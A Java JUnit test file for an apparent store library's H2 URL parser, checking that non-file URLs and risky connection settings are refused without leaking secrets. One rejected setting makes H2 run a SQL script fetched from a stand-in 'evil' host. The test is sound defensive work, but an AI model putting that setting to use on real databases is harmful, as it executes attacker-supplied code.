// SPDX-License-Identifier: Apache-2.0
package io.holdfast.store.jpa;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.holdfast.store.StoreException;
import io.holdfast.store.StoreSettings;
import io.holdfast.store.StoreSettings.Tuning;
import java.nio.file.Path;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Which H2 URLs pass, and what H2 is given. */
class H2UrlTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:tcp://localhost/~/store",
        "jdbc:h2:ssl://localhost:8085/store",
        "jdbc:h2:zip:~/db.zip!/test",
        "jdbc:h2:nio:/tmp/store",
        "jdbc:h2:split:nio:/tmp/store",
        "jdbc:h2:memFS:store",
        "jdbc:h2:powercut:/tmp/store",
        "jdbc:h2:holdfast:/tmp/store",
        "jdbc:h2:mem:",
        "jdbc:h2:file:",
        "jdbc:h2:"
      })
  void whatIsNotAnEmbeddedFileIsRefusedWithAdvice(String url) {
    assertThatThrownBy(() -> H2Url.of(url))
        .isInstanceOf(StoreException.class)
        .hasMessageStartingWith("HF-1007")
        .hasMessageContaining("PostgreSQL");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "AUTO_SERVER=TRUE",
        "auto_server=true",
        "AUTO_SERVER_PORT=9090",
        "INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "TRACE_LEVEL_FILE=3",
        "WRITE_DELAY=500",
        "RETENTION_TIME=45000",
        "DB_CLOSE_ON_EXIT=TRUE",
        "FILE_LOCK=NO",
        "ACCESS_MODE_DATA=r",
        "MODE=MySQL",
        "PASSWORD=secret",
        "DATABASE_EVENT_LISTENER='x.Y'"
      })
  void settingsThatRunStatementsShareTheFileOrWeakenPromisesAreRefused(String setting) {
    assertThatThrownBy(() -> H2Url.of("jdbc:h2:file:./store;" + setting))
        .isInstanceOf(StoreException.class)
        .hasMessageStartingWith("HF-1008")
        .hasMessageContaining(setting.replaceAll("=.*", "").toUpperCase(java.util.Locale.ROOT))
        .hasMessageNotContaining("secret")
        .hasMessageNotContaining("evil");
  }

  @Test
  void aFileIsOpenedThroughTheForcingFileSystemWithTheShippedSettings() {
    H2Url url = H2Url.of("jdbc:h2:./data/store;CACHE_SIZE=65536");
    Path file = Path.of("data/store").toAbsolutePath();
    assertThat(url.file()).isEqualTo(file);
    assertThat(url.jdbc(true))
        .startsWith("jdbc:h2:holdfast:file:" + file + ";")
        .contains(
            ";WRITE_DELAY=0;",
            ";RETENTION_TIME=0;",
            ";MAX_COMPACT_TIME=0;",
            ";AUTO_COMPACT_FILL_RATE=0;")
        .endsWith(";CACHE_SIZE=65536");
    assertThat(url.jdbc(false)).startsWith("jdbc:h2:holdfast-relaxed:file:" + file);
  }

  @Test
  void aHomeDirectoryIsWhatH2TakesItFor() {
    assertThat(H2Url.of("jdbc:h2:~/store").file())
        .isEqualTo(Path.of(System.getProperty("user.home"), "store"));
  }

  @Test
  void onlyATestPutsItsOwnFileSystemBelow() {
    H2Url url = H2Url.of("jdbc:h2:powercut:/tmp/store", Set.of("powercut"));
    assertThat(url.jdbc(true)).startsWith("jdbc:h2:holdfast:powercut:/tmp/store;");
  }

  @Test
  void otherDatabasesAreNotSupportedYetAndTheTextSaysSo() {
    StoreSettings settings =
        new StoreSettings(
            "jdbc:oracle:thin:scott/tiger@host", null, null, null, "test", Tuning.DEFAULT);
    assertThatThrownBy(() -> new JpaMessageStoreProvider().open(settings))
        .isInstanceOf(StoreException.class)
        .hasMessageStartingWith("HF-1009")
        .hasMessageContaining("jdbc:oracle")
        .hasMessageNotContaining("tiger");
  }
}
